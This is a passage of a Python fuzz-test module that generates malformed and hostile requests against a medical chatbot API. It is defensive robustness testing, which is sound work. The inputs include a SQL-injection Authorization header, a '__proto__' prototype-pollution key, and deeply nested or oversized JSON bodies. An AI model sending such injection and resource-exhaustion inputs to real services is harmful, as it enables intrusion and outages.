        ("sql", "Bearer ' OR '1'='1"),
    ]
    for name, value in wrong:
        yield t.request(f"auth/{name}", headers={"Authorization": value})
    yield t.request("auth/missing", auth=False)
    yield t.request("auth/missing-token-in-query", auth=False, query=f"token={HIS_TOKEN}")
    yield t.request("auth/other-header", auth=False, headers={"X-Auth-Token": HIS_TOKEN})
    # accepted: the scheme is case-insensitive and the token is stripped
    yield t.request("auth/lowercase-scheme", headers={"Authorization": f"bearer {HIS_TOKEN}"})
    yield t.request("auth/uppercase-scheme", headers={"Authorization": f"BEARER {HIS_TOKEN}"})
    yield t.request("auth/extra-spaces", headers={"Authorization": f"Bearer   {HIS_TOKEN}  "})
    # a wrong token with a bad body: refused for the token, the body never read
    yield t.request(
        "auth/wrong-with-1MiB",
        headers={"Authorization": "Bearer wrong"},
        raw=encode(obj(t.pairs(message="a" * (1 << 20)))),
    )
    yield t.request("auth/missing-with-deep-nesting", auth=False, raw=nested_arrays(100_000))
    yield t.request("auth/missing-with-invalid-utf8", auth=False, raw=b"\xff\xfe{")


def query_cases(t: Target) -> Iterator[BadRequest]:
    queries = [
        "stream=true",
        "stream=false",
        "stream=1",
        "stream=",
        "stream=True",
        "stream=%74rue",
        "stream=true&stream=false",
        "stream=false&stream=true",
        "stream=%ff%fe",
        "%zz=%zz",
        "stream=true;x=1",
        "a=" + "b" * 2000,
        "token=" + API_TOKEN,
        "sender=x&message=y",
    ]
    for i, query in enumerate(queries):
        yield t.request(f"query/{i:02d}", query=query)
    if t.channel == "rest":  # the stream path with bad and odd input
        for name, message in (
            ("cypher", CYPHER[1]),
            ("intent", INTENT_TEXTS[0]),
            ("1000-糖尿病", FULL_LENGTH["糖尿病x333"]),
            ("html", HTML[0]),
            ("control", CONTROL_TEXTS[1]),
            ("emergency", EMERGENCY[0]),
            ("restart", "/restart"),
            ("accept", "/accept"),
        ):
            yield t.request(f"stream/{name}", message=message, query="stream=true")
        for name, raw in (
            ("empty", b""),
            ("null", b"null"),
            ("deep", nested_arrays(10_000)),
            ("bad-utf8", b"\xff"),
            ("1MiB", encode(obj(t.pairs(message="a" * (1 << 20))))),
            ("truncated", encode(t.valid_text())[:-1]),
        ):
            yield t.request(f"stream/body-{name}", raw=raw, query="stream=true")
        yield t.request("stream/message-too-long", message="感冒" * 501, query="stream=true")
        yield t.request("stream/sender-null", sender=Raw("null"), query="stream=true")
        yield t.request(
            "stream/metadata-deep", extra=[("metadata", Raw(nested_objects(100)))], query="stream=true"
        )
        yield t.request(
            "stream/chunked-request",
            raw=encode(t.valid_text("糖尿病怎么治疗")),
            headers={"Transfer-Encoding": "chunked"},
            query="stream=true",
        )


HAND_LISTED: Tuple[Callable[[Target], Iterator[BadRequest]], ...] = (
    body_cases,
    malformed_json_cases,
    nesting_cases,
    field_type_cases,
    size_cases,
    text_cases,
    sender_cases,
    auth_cases,
    query_cases,
)


# ---------------------------------------------------------------------------------- random
JUNK_FRAGMENTS = (
    CONTROL_TEXTS
    + CYPHER
    + SQL
    + HTML
    + TEMPLATES_AND_MISC
    + INTENT_TEXTS
    + CONFUSABLES
    + ("\x00", "\x1b[31m", "\x7f", "\u200b", "\u202e", "\ufeff", "\ud800", "\udfff", "😷", "\n", "\t")
)


def random_message(rng: random.Random) -> str:
    """A question, small talk or junk, sometimes over the length limit."""
    kind = rng.random()
    if kind < 0.3:
        text = rng.choice(DISEASES) + rng.choice(QUESTIONS)
    elif kind < 0.45:
        text = "".join(rng.choice(SMALL_TALK) for _ in range(rng.randint(1, 5)))
    elif kind < 0.85:
        text = "".join(rng.choice(JUNK_FRAGMENTS + DISEASES + QUESTIONS) for _ in range(rng.randint(1, 6)))
    else:
        unit = rng.choice(DISEASES + SMALL_TALK)
        text = unit * (rng.randint(900, 1100) // len(unit))
    if rng.random() < 0.2:  # random code points from awkward ranges
        ranges = (
            (0, 0x20),
            (0x7F, 0xA0),
            (0x200B, 0x2070),
            (0xD800, 0xE000),
            (0xE000, 0xF900),
            (0xFE00, 0xFE10),
            (0xFFF0, 0x10000),
            (0x1F300, 0x1F700),
            (0xE0000, 0xE0080),
        )
        chars = [chr(rng.randrange(*rng.choice(ranges))) for _ in range(rng.randint(1, 8))]
        at = rng.randint(0, len(text))
        text = text[:at] + "".join(chars) + text[at:]
    return text


def random_value(rng: random.Random, field: str) -> Any:
    """A value for ``field``: mostly valid for ``sender``/``message``, anything for the rest."""
    if rng.random() < 0.25:
        return rng.choice(WRONG_TYPES)[1]
    if field == "message":
        text = random_message(rng)
    elif field == "metadata":
        depth = rng.randint(0, 12)
        return Raw(
            nested_objects(depth, rng.choice(["1", "null", "NaN", '"x"', "[]", "1e400"])) if depth else "{}"
        )
    else:  # sender, request_id
        text = rng.choice(["", " ", "a" * rng.randint(1, 140), "\ud800", "\x00", "😷" * rng.randint(1, 130)])
    # lone surrogates: sometimes as JSON escapes, otherwise they become raw (invalid UTF-8) bytes
    return esc(text) if rng.random() < 0.5 else text


def mutate(rng: random.Random, data: bytes) -> bytes:
    """``data`` with 1-3 random byte-level edits (flip, drop, insert, cut, duplicate, swap)."""
    out = bytearray(data)
    for _ in range(rng.randint(1, 3)):
        if not out:
            break
        i = rng.randrange(len(out))
        edit = rng.randrange(6)
        if edit == 0:
            out[i] = rng.randrange(256)
        elif edit == 1:
            del out[i]
        elif edit == 2:
            out.insert(i, rng.choice(b'{}[]",:\\ \x00\xff\x80' + bytes([rng.randrange(256)])))
        elif edit == 3:
            del out[i:]
        elif edit == 4:
            j = rng.randrange(i, len(out) + 1)
            out[i:i] = out[i:j]
        else:
            j = rng.randrange(len(out))
            out[i], out[j] = out[j], out[i]
    return bytes(out)


def random_case(t: Target, rng: random.Random, serial: int) -> BadRequest:
    kind = rng.choices(["mutated", "fields", "message", "nesting", "bytes"], weights=[5, 5, 2, 1, 1])[0]
    label = f"random/{kind}-{serial:03d}"
    headers: Dict[str, HeaderValue] = {}
    if t.channel == "his" and rng.random() < 0.15:
        headers["Authorization"] = rng.choice(
            ["", "Bearer", f"Bearer {HIS_TOKEN}x", "Basic x", HIS_TOKEN, f"Bearer {HIS_TOKEN[::-1]}"]
        )
    if rng.random() < 0.1:
        headers["Content-Type"] = rng.choice(
            ["text/plain", "application/octet-stream", "application/json; charset=latin-1"]
        )
    if rng.random() < 0.05:
        headers["Transfer-Encoding"] = "chunked"
    query = "stream=true" if t.channel == "rest" and rng.random() < 0.3 else ""
    if kind == "mutated":
        raw: Union[bytes, str, None] = mutate(
            rng, encode(t.valid_text(random_message(rng) if rng.random() < 0.5 else "感冒有什么症状"))
        )
        return t.request(label, raw=raw, headers=headers, query=query)
    if kind == "bytes":
        return t.request(
            label,
            raw=bytes(rng.randrange(256) for _ in range(rng.randint(0, 300))),
            headers=headers,
            query=query,
        )
    if kind == "nesting":
        depth = rng.choice([rng.randint(1, 20), rng.randint(20, 3000)])
        inner = "".join(rng.choice(["[", '{"k": ']) for _ in range(depth))
        closing = "".join("]" if c == "[" else "}" for c in reversed(inner.replace('{"k": ', "{")))
        nest = Raw(inner + rng.choice(["1", "null", '"x"']) + closing)
        where = rng.choice(["sender", "message", "metadata", "top"])
        if where == "top":
            return t.request(label, raw=str(nest), headers=headers, query=query)
        if where == "metadata":
            return t.request(label, extra=[("metadata", nest)], headers=headers, query=query)
        return t.request(label, **{where: nest}, headers=headers, query=query)
    if kind == "message":
        return t.request(label, message=random_message(rng), headers=headers, query=query)
    fields = (
        ["sender", "message"]
        + (["metadata"] if rng.random() < 0.4 else [])
        + (["request_id"] if t.channel == "his" and rng.random() < 0.4 else [])
    )
    pairs: List[Tuple[str, Any]] = []
    for name in fields:
        if rng.random() < 0.08:
            continue  # missing
        if name == "sender" and rng.random() < 0.6:
            pairs.append((name, t.sender()))
        elif name == "message" and rng.random() < 0.5:
            pairs.append((name, random_message(rng)))
        else:
            pairs.append((name, random_value(rng, name)))
    if rng.random() < 0.2:
        pairs.append(
            rng.choice(
                [
                    ("input_channel", "his"),
                    ("sender_id", "x"),
                    ("text", "感冒"),
                    ("__proto__", Raw("{}")),
                    ("message", Raw("null")),
                    ("sender", t.sender()),
                ]
            )
        )
    rng.shuffle(pairs)
    return t.request(label, raw=obj(pairs), headers=headers, query=query)


# ---------------------------------------------------------------------------------- corpus
def channel_corpus(channel: str, random_cases: int = RANDOM_PER_CHANNEL) -> List[BadRequest]:
    """The hand-listed cases for ``channel``, then ``random_cases`` random ones (the same every call)."""
    t = Target(channel)
    cases = [case for make in HAND_LISTED for case in make(t)]
    target = max(len(cases) + random_cases, MIN_PER_CHANNEL)
    rng = random.Random(f"{SEED}:{channel}")
    serial = 0
    while len(cases) < target:
        serial += 1
        cases.append(random_case(t, rng, serial))
    labels = [case.label for case in cases]
    duplicates = sorted({label for label in labels if labels.count(label) > 1})
    if duplicates:
        raise AssertionError(f"{channel}: duplicate labels {duplicates}")
    for case in cases:
        if any(word in case.body for word in FORBIDDEN_TEXT):
            raise AssertionError(
                f"{channel} {case.label}: the body contains text the replies are checked for"
            )
    return cases


def build_corpus() -> Dict[str, List[BadRequest]]:
    return {channel: channel_corpus(channel) for channel in CHANNELS}
